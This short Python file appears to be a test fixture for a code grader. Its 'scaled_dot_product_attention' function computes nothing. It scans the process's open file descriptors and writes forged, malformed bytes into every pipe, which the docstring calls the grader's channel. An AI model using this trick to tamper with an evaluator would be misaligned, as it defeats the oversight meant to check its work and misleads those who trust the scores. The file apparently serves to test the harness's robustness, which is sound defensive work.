"""A submission that writes forged bytes to every pipe it can find (the grader's channel)."""

import os
import stat
import struct


def scaled_dot_product_attention(query, key, value, mask=None, dropout_p=0.0):
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, struct.pack("<q", 12) + b"\xffnot a valid message")
        except OSError:
            pass
    return query, key
